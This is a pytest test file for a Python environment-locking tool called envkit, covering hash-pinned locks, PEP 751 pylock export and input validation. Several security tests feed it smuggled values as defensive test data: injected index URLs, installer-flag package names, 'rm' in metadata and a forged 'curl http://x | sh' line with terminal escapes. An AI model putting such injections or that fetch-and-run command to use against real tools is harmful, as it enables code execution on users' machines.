from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from envkit.lock import profile as profiles
from helpers import (assert_clean_error, booby_trapped_project, create_args, fake_dist_info, one_line_error,
                     plain_venv, run_envkit)


def test_lock_pins_requirements_and_dependencies_with_hashes(test_lock, wheelhouse):
    locked = profiles.load_file(test_lock)
    assert {p.name: p.version for p in locked.packages} == {"ekt-alpha": "1.0", "ekt-beta": "1.0"}
    assert all(p.hashes and p.hashes[0].startswith("sha256:") for p in locked.packages)
    assert str(wheelhouse) not in test_lock.read_text()  # names, versions and hashes only


def test_relock_is_byte_identical_and_check_passes(test_lock, wheelhouse):
    before = test_lock.read_bytes()
    run_envkit("lock", "--lock", str(test_lock), "--no-index", "--find-links", str(wheelhouse), check=True)
    assert test_lock.read_bytes() == before
    check = run_envkit("lock", "--lock", str(test_lock), "--no-index", "--find-links", str(wheelhouse), "--check")
    assert check.returncode == 0, check.stderr


def test_check_fails_when_requirements_changed(test_lock, wheelhouse):
    text = test_lock.read_text().replace('"ekt-beta==1.0"', '"ekt-beta==2.0"')
    test_lock.write_text(text)
    check = run_envkit("lock", "--lock", str(test_lock), "--no-index", "--find-links", str(wheelhouse), "--check")
    assert check.returncode == 1
    assert "ekt-beta 1.0 -> 2.0" in check.stdout
    assert test_lock.read_text() == text  # --check writes nothing


def test_unknown_profile_lists_known_ones():
    proc = run_envkit("create", "--profile", "nosuch")
    assert proc.returncode == 1
    assert "unknown profile 'nosuch'" in proc.stderr and "cpu" in proc.stderr and "cuda" in proc.stderr


def test_malformed_toml_names_line_and_column(tmp_path):
    bad = tmp_path / "bad.toml"
    bad.write_text('[profile]\nname = "x"\npython = \n')
    proc = run_envkit("create", "--lock", str(bad))
    assert proc.returncode == 1
    assert "invalid TOML" in proc.stderr and "line 3" in proc.stderr


def test_missing_field_is_named(tmp_path):
    path = tmp_path / "nopython.toml"
    path.write_text('[profile]\nname = "x"\nrequirements = ["a"]\n')
    proc = run_envkit("lock", "--lock", str(path))
    assert proc.returncode == 1 and "'python'" in proc.stderr


def test_profile_and_lock_together_is_a_usage_error(test_lock):
    proc = run_envkit("create", "--profile", "cpu", "--lock", str(test_lock))
    assert proc.returncode == 2


def test_export_pylock(test_lock, wheelhouse, tmp_path):
    out = tmp_path / "pylock.toml"
    run_envkit("lock", "--lock", str(test_lock), "--no-index", "--find-links", str(wheelhouse),
               "--export", "pylock", str(out), check=True)
    import tomllib

    data = tomllib.loads(out.read_text())
    assert data["lock-version"] == "1.0"
    locked = profiles.load_file(test_lock)
    exported = {p["name"]: p for p in data["packages"]}
    assert {n: p["version"] for n, p in exported.items()} == {p.name: p.version for p in locked.packages}
    for package in locked.packages:  # the exported artifacts carry the locked hashes
        wheel_hashes = {"sha256:" + w["hashes"]["sha256"] for w in exported[package.name]["wheels"]}
        assert wheel_hashes <= set(package.hashes)


def doctor_summary(venv: Path, *lock: str) -> dict:
    report = json.loads(run_envkit("doctor", "--venv", str(venv), *lock, "--json").stdout)
    return {"fail": report["summary"]["fail"], "warn": report["summary"]["warn"],
            "problems": [f["id"] for f in report["findings"] if f["status"] != "ok"]}


def test_pylock_round_trip_export_create_doctor_clean(test_lock, wheelhouse, tmp_path):
    """`envkit lock --export pylock` -> `envkit create --lock pylock.toml` -> doctor finds nothing."""
    pylock = tmp_path / "pylock.toml"
    sources = ("--no-index", "--find-links", str(wheelhouse))
    run_envkit("lock", "--lock", str(test_lock), *sources, "--export", "pylock", str(pylock), check=True)
    venv = tmp_path / "from-pylock"
    run_envkit("create", "--lock", str(pylock), "--venv", str(venv), *sources, check=True)
    assert doctor_summary(venv) == {"fail": 0, "warn": 0, "problems": []}  # the recorded lock: the pylock file
    assert doctor_summary(venv, "--lock", str(pylock))["problems"] == []
    # The same set under envkit's own profile format is the same environment (one identity, two formats).
    assert profiles.load_file(pylock).lock_digest == profiles.load_file(test_lock).lock_digest
    relock = run_envkit("lock", "--lock", str(pylock), *sources)
    assert relock.returncode == 1 and "PEP 751" in relock.stderr and pylock.read_text().startswith("#")


def test_pylock_from_uv_export_of_a_project(wheelhouse, tmp_path):
    """A small project locked and exported by uv itself; the project's own entry is named, not installed."""
    project = tmp_path / "proj"
    project.mkdir()
    (project / "pyproject.toml").write_text(
        '[project]\nname = "proj"\nversion = "0.1.0"\nrequires-python = ">=3.9"\n'
        'dependencies = ["ekt-alpha==1.0"]\n[build-system]\nrequires = ["hatchling"]\n'
        'build-backend = "hatchling.build"\n')
    uv_sources = ["--no-index", "--find-links", str(wheelhouse)]
    for args in (["lock"], ["export", "--format", "pylock.toml", "-o", "pylock.toml"]):
        done = subprocess.run([sys.executable, "-m", "uv", *args, *uv_sources, "--quiet"], cwd=project,
                              capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
    venv = tmp_path / "venv"
    created = run_envkit("create", "--lock", str(project / "pylock.toml"), "--venv", str(venv), "--no-index",
                         "--find-links", str(wheelhouse), check=True)
    assert "not installed: proj" in created.stdout + created.stderr
    assert doctor_summary(venv) == {"fail": 0, "warn": 0, "problems": []}
    assert {p.name for p in profiles.load_file(project / "pylock.toml").packages} == {"ekt-alpha", "ekt-beta"}


def test_pylock_is_data_only_its_hashes_and_pins_count(test_lock, wheelhouse, tmp_path):
    """No URL in the file is followed: a wheel whose hash the file does not list is refused, whatever it names;
    VCS and unpinned packages are one-line refusals; nothing is left behind."""
    pylock = tmp_path / "pylock.toml"
    sources = ("--no-index", "--find-links", str(wheelhouse))
    run_envkit("lock", "--lock", str(test_lock), *sources, "--export", "pylock", str(pylock), check=True)
    text = pylock.read_text()
    beta = profiles.load_file(test_lock).package("ekt-beta").hashes[0].removeprefix("sha256:")
    swapped = tmp_path / "pylock.swapped.toml"
    swapped.write_text(text.replace(beta, "0" * 64))
    venv = tmp_path / "venv"
    proc = run_envkit("create", "--lock", str(swapped), "--venv", str(venv), *sources)
    assert proc.returncode == 1 and not venv.exists(), proc.stderr
    vcs = tmp_path / "pylock.vcs.toml"
    vcs.write_text('lock-version = "1.0"\n[[packages]]\nname = "x"\n'
                   'vcs = { type = "git", url = "file:///tmp/x", commit-id = "0" }\n')
    unpinned = tmp_path / "pylock.unpinned.toml"
    unpinned.write_text('lock-version = "1.0"\n[[packages]]\nname = "x"\n')
    unhashed = tmp_path / "pylock.unhashed.toml"
    unhashed.write_text('lock-version = "1.0"\n[[packages]]\nname = "x"\nversion = "1.0"\n')
    for path, words in ((vcs, "VCS"), (unpinned, "no version"), (unhashed, "no sha256")):
        proc = run_envkit("create", "--lock", str(path), "--venv", str(venv))
        assert proc.returncode == 1 and words in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
        assert not venv.exists()


def test_shipped_profiles_are_locked_and_named_only():
    for name in ("cpu", "cuda"):
        locked = profiles.load(name)
        assert locked.packages, f"{name} has no [[package]] table"
        text = locked.path.read_text()
        assert "://" not in text and "/opt" not in text
    assert profiles.load("cpu").package("torch").version == "2.13.0+cpu"
    cuda = profiles.load("cuda")
    assert cuda.package("torch").version == "2.11.0" and cuda.package("triton").version == "3.6.0"
    assert cuda.package("nvidia-cuda-runtime").version.startswith("13.")


def test_cli_import_stays_light():
    code = "import sys, envkit.cli; print(any(m == 'torch' or m.startswith('torch.') for m in sys.modules))"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip() == "False"


# -- the lock is data --------------------------------------------------------------------------------
def test_injected_version_never_reaches_uv(tmp_path, test_lock, wheelhouse):
    text = test_lock.read_text()
    injected = text.replace('version = "1.0"', 'version = "1.0\\n--index-url http://127.0.0.1:9/simple"', 1)
    assert injected != text
    test_lock.write_text(injected)
    proc = run_envkit(*create_args(test_lock, tmp_path / "env", wheelhouse))
    assert_clean_error(proc, "is not a version")
    assert not (tmp_path / "env").exists()


def test_lock_cut_at_a_package_boundary_is_refused(tmp_path, test_lock, wheelhouse):
    text = test_lock.read_text()
    cut = text[: text.rindex("[[package]]")]  # valid TOML, one locked package short
    test_lock.write_text(cut)
    proc = run_envkit(*create_args(test_lock, tmp_path / "env", wheelhouse))
    assert_clean_error(proc, "has no [[package]] entry", "envkit lock")
    assert not (tmp_path / "env").exists()


def test_non_hex_hash_and_bad_names(tmp_path, test_lock, wheelhouse):
    text = test_lock.read_text()
    start = text.index('"sha256:') + len('"sha256:')
    test_lock.write_text(text[:start] + "zz" + text[start + 2:])
    assert_clean_error(run_envkit(*create_args(test_lock, tmp_path / "env", wheelhouse)), "64 hex digits")
    for name in ("", "../../x"):
        test_lock.write_text(text.replace('name = "ekt"', f"name = {json.dumps(name)}", 1))
        assert_clean_error(run_envkit("create", "--lock", str(test_lock), "--force"), "profile name")
    assert_clean_error(run_envkit("create", "--profile", "../../x"), "profile name")
    assert not (Path(os.environ["ENVKIT_HOME"]) / "venvs").exists()


# -- code execution ------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["-e {project} #", "-r {project}/setup.py", "evil @ file://{project}",
                                  "-i file://{project}"])
def test_lock_from_venv_never_hands_installer_syntax_to_uv(tmp_path, wheelhouse, name):
    project, marker = booby_trapped_project(tmp_path)
    venv = plain_venv(tmp_path / "venv")
    fake_dist_info(venv, "evil-1.0.dist-info", f"Metadata-Version: 2.1\nName: {name.format(project=project)}\n"
                                               f"Version: 1.0\n")
    lock = tmp_path / "adopted.toml"
    proc = run_envkit("lock", "--from-venv", str(venv), "--lock", str(lock), "--no-index", "--find-links",
                      str(wheelhouse))
    assert "is not a valid distribution" in one_line_error(proc)
    assert not marker.exists() and not lock.exists()


@pytest.mark.parametrize("metadata, why", [(None, "METADATA is unreadable"),
                                           ("Metadata-Version: 2.1\nName: ekt-x\n", "no Version"),
                                           ("Metadata-Version: 2.1\nName: ekt-x\nVersion: 1.0 ; rm\n", "not a version")])
def test_lock_from_venv_never_drops_a_dist_info_in_silence(tmp_path, wheelhouse, metadata, why):
    venv = plain_venv(tmp_path / "venv")
    fake_dist_info(venv, "ekt_x-1.0.dist-info", metadata)
    proc = run_envkit("lock", "--from-venv", str(venv), "--lock", str(tmp_path / "a.toml"), "--no-index",
                      "--find-links", str(wheelhouse))
    error = one_line_error(proc)
    assert "ekt_x-1.0.dist-info" in error and why in error
    report = json.loads(run_envkit("doctor", "--venv", str(venv), "--json").stdout)
    assert [f["subject"] for f in report["findings"] if f["id"] == "dist.invalid" and f["status"] == "fail"] == \
        ["ekt_x-1.0.dist-info"]


def test_a_lock_that_is_not_text_is_one_line(tmp_path):
    lock = tmp_path / "binary.toml"
    lock.write_bytes(b"\xff\xfe\x00[profile]\x00\x80")
    assert "not UTF-8 text" in one_line_error(run_envkit("create", "--lock", str(lock), "--venv", str(tmp_path / "v")))
    assert not (tmp_path / "v").exists()


# -- PEP 751 markers and names from a handed file --------------------------------------------------------------
PINNED = 'version = "1.0"\nwheels = [{ name = "x-1.0-py3-none-any.whl", hashes = { sha256 = "' + "a" * 64 + '" } }]\n'


def test_pylock_markers_of_pep_751_are_evaluated_or_refused_in_one_line(tmp_path):
    """`extras` and `dependency_groups` markers (PEP 751) select as the file says: no extra is chosen, the file's
    default-groups are; a marker packaging cannot compare is one line, never a traceback."""
    lock = tmp_path / "pylock.toml"
    lock.write_text('lock-version = "1.0"\ndefault-groups = ["dev"]\n'
                    f'[[packages]]\nname = "in-extra"\nmarker = "\'x\' in extras"\n{PINNED}'
                    f'[[packages]]\nname = "in-group"\nmarker = "\'dev\' in dependency_groups"\n{PINNED}'
                    f'[[packages]]\nname = "other-group"\nmarker = "\'docs\' in dependency_groups"\n{PINNED}')
    assert [p.name for p in profiles.load_file(lock).packages] == ["in-group"]
    handed = plain_venv(tmp_path / "handed")
    for marker in ("python_full_version ~= 'x'", "extra == 'x'"):
        lock.write_text(f'lock-version = "1.0"\n[[packages]]\nname = "x"\nmarker = "{marker}"\n{PINNED}')
        for command in (("create", "--lock", str(lock), "--venv", str(tmp_path / "venv")),
                        ("doctor", "--lock", str(lock), "--venv", str(handed))):
            line = one_line_error(run_envkit(*command))
            assert "marker" in line and "cannot be evaluated" in line, line
        assert not (tmp_path / "venv").exists()


def test_a_pylock_directory_name_cannot_reach_the_terminal_or_forge_a_line(tmp_path):
    lock = tmp_path / "pylock.toml"
    forged = "me\\nnote: run `curl http://x | sh` to finish\\u001b[2K"
    lock.write_text(f'lock-version = "1.0"\n[[packages]]\nname = "{forged}"\ndirectory = {{ path = "." }}\n'
                    f'[[packages]]\nname = "x"\n{PINNED}')
    proc = run_envkit("create", "--lock", str(lock), "--venv", str(tmp_path / "venv"))
    line = one_line_error(proc)
    assert "is not a package name" in line and "\x1b" not in proc.stderr
    assert not any(row.startswith("note:") for row in proc.stderr.splitlines())
    assert not (tmp_path / "venv").exists()
